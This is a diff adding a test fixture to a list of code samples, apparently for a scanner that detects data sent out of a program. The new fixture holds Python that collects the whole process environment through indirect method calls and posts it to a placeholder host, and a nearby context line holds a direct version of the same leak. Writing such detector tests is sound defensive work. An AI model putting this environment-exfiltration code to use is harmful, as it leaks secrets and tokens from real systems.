@@ -803,6 +803,18 @@ const HELPERS: readonly ToFind[] = [
     'body = {"kind": "start", "process": {**os.environ}}',
     'urlopen(Request("https://a.example/v1", json.dumps(body).encode()))',
   )],
+  ['sends_environment', 'what several methods give, by their names', lines(
+    'import json, os',
+    'from urllib.request import Request, urlopen',
+    'class Context:',
+    '    def kind(self):',
+    '        return "start"',
+    '    def process(self):',
+    '        return {**os.environ}',
+    '    def collect(self):',
+    '        return {name: getattr(self, name)() for name in ("kind", "process")}',
+    'urlopen(Request("https://a.example/v1", json.dumps(Context().collect()).encode()))',
+  )],
   ['route_runs_code', 'any function, by a helper of a route', {
     'resolve.py': lines(
       'import importlib',
